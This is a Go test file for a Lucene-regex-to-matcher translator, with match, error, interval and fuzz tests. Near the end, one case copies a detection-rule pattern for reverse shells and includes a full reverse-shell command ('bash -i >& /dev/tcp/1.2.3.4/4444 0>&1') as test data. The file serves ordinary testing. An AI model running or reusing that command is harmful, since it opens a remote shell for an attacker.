package lucene

import (
	"errors"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

type matchCase struct {
	pattern string
	ci      bool
	yes, no []string
}

// Patterns and outcomes taken by hand from the RLIKE tests of
// where-like.csv-spec (employees first/last names).
var csvSpecCases = []matchCase{
	{"Aleja.*", false, []string{"Alejandro"}, []string{"Alej"}},
	{".*itij", false, []string{"Kshitij"}, []string{"Kshitijx"}},
	{".*har.*", false, []string{"Eberhardt", "Berhard", "Charlene", "Sudharsan"}, []string{"Georgi"}},
	{".leja.*", false, []string{"Alejandro"}, []string{"leja"}},
	{"(Eberhar.*)|(.*arlene)", false, []string{"Eberhardt", "Charlene"}, []string{"Berhard"}},
	{"Mayu.*", false, []string{"Mayuko", "Mayumi"}, []string{"Mayu "[:3]}},
	{".*zuh.*", false, []string{"Kazuhide", "Kazuhito"}, []string{"Kazu"}},
	{".*eha", false, []string{"Peha"}, []string{"Pehas"}},
	{"Hidefu.*", false, []string{"Hidefumi--"}, []string{"hidefumi"}},
	{"Eberhardt", false, []string{"Eberhardt"}, []string{"Eberhardt2", "eberhardt"}},
	{"EberhardtX", false, []string{"EberhardtX"}, []string{"Eberhardt"}},
	{".*", false, []string{"", "Otmar"}, nil},
	{"Geor.*", false, []string{"Georgi", "Georgy"}, []string{"Bezalel"}},
	{"Xing.*", false, []string{"Xinglin"}, []string{"xinglin"}},
	{".*o{2,}.*", false, []string{"Nooteboom", "Anoosh", "Foote", "Jungsoon"}, []string{"Guoxiang", "Peyn", "Somnath"}},
	{"Account.*", false, []string{"Accountant"}, []string{"Head Human Resources"}},
	{"GEOR.*", false, []string{"GEORGI", "GEORGY"}, []string{"WEIYI"}},
	{"geor.*", false, nil, []string{"GEORGI"}},
	{"geor*", false, []string{"geo", "georrr"}, []string{"GEORGI"}},
	{"WEIYI.*", false, []string{"WEIYI"}, nil},
	{"bErNi", false, nil, []string{"BERNI"}},
	{"#", false, nil, []string{"abc", ""}},
	{".*Л.*", false, []string{"СВЕРДЛОВ РАЙОНУ"}, []string{"Свердлов району"}},
	{"foo.*", false, []string{"foobar"}, nil},
	{"bar.", false, nil, []string{"foobar"}},
	{"", false, []string{""}, []string{"Georgi"}},
	{`Eberhar\*`, false, []string{"Eberhar*"}, []string{"Eberhardt"}},
	{".{9,}.*", false, []string{"Chirstian", "Sreekrishna"}, []string{"Eberhard"}},
	{".{6,}.*", false, []string{"Georgi"}, []string{"Parto", "Uri"}},
	{"Part.", false, []string{"Parto"}, []string{"Part"}},
	{"Eber.*", false, []string{"Eberhardt"}, nil},
	{"Eberhard.", false, []string{"Eberhardt"}, nil},
	{"Otm.*", false, []string{"Otmar"}, nil},
	{"demo.*", false, []string{"demo"}, nil},
	{"EBER.*", false, []string{"EBERHARDT"}, []string{"eberhardt"}},
}

var ownCases = []matchCase{
	// `.` is one code point, including newline.
	{".", false, []string{"é", "😀", "\n"}, []string{"", "ab"}},
	// Characters special to RE2 but literal to Lucene.
	{"^a$", false, []string{"^a$"}, []string{"a"}},
	{`a\.b`, false, []string{"a.b"}, []string{"axb"}},
	{`\\`, false, []string{`\`}, nil},
	{`\d+`, false, []string{"0123"}, []string{"12a", ""}},
	{`\w\s\W`, false, []string{"a .", "a  "}, []string{"a a"}},
	{`[\d-]+`, false, []string{"12-3"}, []string{"a"}},
	{`"a.b*"`, false, []string{"a.b*"}, []string{"aab"}},
	{`"a"+`, false, []string{"aaa"}, []string{""}},
	{"[a-c]x", false, []string{"bx"}, []string{"dx"}},
	{"[^a-c]x", false, []string{"dx", "\nx", "éx"}, []string{"ax", "x"}},
	{"[]]", false, []string{"]"}, nil},
	{"()", false, []string{""}, []string{"a"}},
	{"a()b", false, []string{"ab"}, nil},
	{"a|", false, nil, nil}, // error case, see below; kept out by errorCases
	{"|a", false, []string{"|a"}, []string{"a"}},
	{"a||b", false, []string{"a", "|b"}, []string{"b"}},
	{"*", false, []string{"*"}, []string{"", "a"}},
	{"**", false, []string{"", "***"}, []string{"a"}},
	{"a+?", false, []string{"", "a", "aaa"}, []string{"b"}},
	{"a{2}", false, []string{"aa"}, []string{"a", "aaa"}},
	{"a{2,3}", false, []string{"aa", "aaa"}, []string{"aaaa"}},
	{"a{0,}", false, []string{"", "aaaa"}, nil},
	{"ab{2}", false, []string{"abb"}, []string{"abab"}},
	// Optional operators, all enabled in ES|QL.
	{"@", false, []string{"", "anything\n"}, nil},
	{"a@", false, []string{"a", "abc"}, []string{"ba"}},
	{"<1-10>", false, []string{"1", "7", "10", "007", "0010"}, []string{"0", "11", "", "-1"}},
	{"<01-10>", false, []string{"01", "09", "10"}, []string{"1", "001", "11"}},
	{"<10-1>", false, []string{"5"}, nil},
	{"x<100-2500>", false, []string{"x100", "x999", "x2500", "x1234", "x0150"}, []string{"x99", "x2501", "x3000"}},
	{"<0-0>", false, []string{"0"}, []string{"1"}},
	{"<0-5>", false, []string{"0", "5"}, []string{"6", "00"}},
	{"a#", false, nil, []string{"a", ""}},
	{"a|#", false, []string{"a"}, []string{""}},
	{"~(abc)", false, []string{"", "ab", "abcd"}, []string{"abc"}},
	{"~~(abc)", false, []string{"abc"}, []string{"ab"}},
	{"(a.*)&(.*b)", false, []string{"ab", "axxb"}, []string{"a", "b", "ba"}},
	{"@&~(abc.+)", false, []string{"abc", "xabcd"}, []string{"abcd"}},
	{"(a.*&.*b)|c", false, []string{"ab", "c"}, []string{"a"}},
	{"~(a.*)|b", false, []string{"b", "c", ""}, []string{"ab"}},
	// Case-insensitive: single characters and strings fold, ranges do not.
	{"geor.*", true, []string{"GEORGI", "georgy"}, []string{"GORGE"}},
	{`"abc"`, true, []string{"ABC", "aBc"}, nil},
	{"[a-c]", true, []string{"a"}, []string{"A"}},
	{"[ab]", true, []string{"A", "b"}, []string{"c"}},
	{".*л.*", true, []string{"СВЕРДЛОВ"}, nil},
	{"k", true, []string{"K", "\u212a"}, nil},
	{"~(a)", true, []string{"b"}, []string{"A"}},
	// Nested & and ~ (DFA path).
	{"x~(a)", false, []string{"x", "xb", "xaa"}, []string{"xa", "a"}},
	{"(a&b)*", false, []string{""}, []string{"a", "ab"}},
	{"(~(a*)b)+", false, []string{"bb", "xbyb", "bab"}, []string{"", "aab", "b", "ab"}},
	{".*(foo&.*o)x", false, []string{"zfoox"}, []string{"zfox"}},
	{"<1-12>~(5)", false, []string{"12", "123x", "7"}, []string{"15", "x"}},
	{"[^a]~(.*b.*)", true, []string{"xc"}, []string{"xB", "Ac"}},
	{"(\\d&[0-3])+~#", false, []string{"0123", "12"}, []string{"4"}},
	// From a prebuilt rule: with & enabled, `>&|0>&1|>&\s*/dev/tcp` is an
	// empty intersection, so only mkfifo is left in the group (as in ES).
	{`.*(bash\s+-i\s+>&|0>&1|>&\s*/dev/tcp|mkfifo).*`, false,
		[]string{"x mkfifo y"}, []string{"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1"}},
}

func TestMatch(t *testing.T) {
	for _, tc := range append(append([]matchCase{}, csvSpecCases...), ownCases...) {
		if tc.pattern == "a|" {
			continue
		}
		m, err := Compile(tc.pattern, tc.ci)
		if err != nil {
			t.Errorf("Compile(%q): %v", tc.pattern, err)
			continue
		}
		for _, s := range tc.yes {
			if !m.Match(s) {
				t.Errorf("%q (ci=%v) should match %q", tc.pattern, tc.ci, s)
			}
		}
		for _, s := range tc.no {
			if m.Match(s) {
				t.Errorf("%q (ci=%v) should not match %q", tc.pattern, tc.ci, s)
			}
		}
	}
}

func TestCompileErrors(t *testing.T) {
	for _, tc := range []struct {
		pattern, msg string
	}{
		{"a|", "unexpected end-of-string"},
		{"(a", "expected ')'"},
		{"a)", "end-of-string expected"},
		{"[a", "expected ']'"},
		{"[]", "expected ']'"},
		{"[z-a]", "invalid range"},
		{`a\`, "unexpected end-of-string"},
		{`\n`, `invalid character class \n`},
		{`[\t]`, `invalid character class \t`},
		{`"abc`, `expected '"'`},
		{"a{", "integer expected"},
		{"a{2", "expected '}'"},
		{"a{3,2}", "invalid repetition range"},
		{"a{99999999999}", "out of range"},
		{"<abc>", "named automaton"},
		{"<1-2", "expected '>'"},
		{"<-1>", "interval syntax error"},
		{"<1-2-3>", "interval syntax error"},
		{"<a-b>", "interval syntax error"},
		{"a{1001}", "too complex"},
	} {
		_, err := Compile(tc.pattern, false)
		var e *Error
		if !errors.As(err, &e) {
			t.Errorf("Compile(%q) error = %v, want *Error", tc.pattern, err)
			continue
		}
		if !strings.Contains(e.Msg, tc.msg) || e.Line != 1 || e.Col < 1 {
			t.Errorf("Compile(%q) = %v, want message containing %q", tc.pattern, e, tc.msg)
		}
	}
}

// TestInterval checks the generated numeric ranges against arithmetic.
func TestInterval(t *testing.T) {
	for _, r := range [][3]int{{0, 0, 0}, {3, 7, 0}, {5, 123, 0}, {99, 1001, 0}, {17, 1984, 0}, {0, 99, 2}, {7, 42, 2}, {123, 456, 3}, {1, 1000, 0}} {
		re := regexp.MustCompile("^(?:" + intervalRegex(r[0], r[1], r[2]) + ")$")
		for v := 0; v <= 2100; v++ {
			s := strconv.Itoa(v)
			want := v >= r[0] && v <= r[1]
			if r[2] > 0 {
				s = pad(v, r[2])
				want = want && len(s) == r[2]
			}
			if got := re.MatchString(s); got != want {
				t.Errorf("interval %v on %q = %v, want %v", r, s, got, want)
			}
		}
	}
}

func FuzzTranslate(f *testing.F) {
	for _, tc := range append(append([]matchCase{}, csvSpecCases...), ownCases...) {
		s := ""
		if len(tc.yes) > 0 {
			s = tc.yes[0]
		}
		f.Add(tc.pattern, s, tc.ci)
	}
	f.Add(`[\W-]"x"<3-40>~@#`, "x", false)
	f.Fuzz(func(t *testing.T, pattern, s string, ci bool) {
		m, err := Compile(pattern, ci)
		if err != nil {
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("Compile(%q) returned %T, want *Error", pattern, err)
			}
			return
		}
		got := m.Match(s)
		// Cross-check the DFA engine against RE2 where both apply.
		n, err := parse(pattern, ci)
		if err != nil || hasBool(n) || len(pattern) > 40 {
			return
		}
		d, err := buildDFA(n, ci)
		if err != nil {
			return
		}
		if d.match(s) != got && utf8.ValidString(s) {
			t.Fatalf("pattern %q on %q: RE2 %v, DFA %v", pattern, s, got, !got)
		}
	})
}
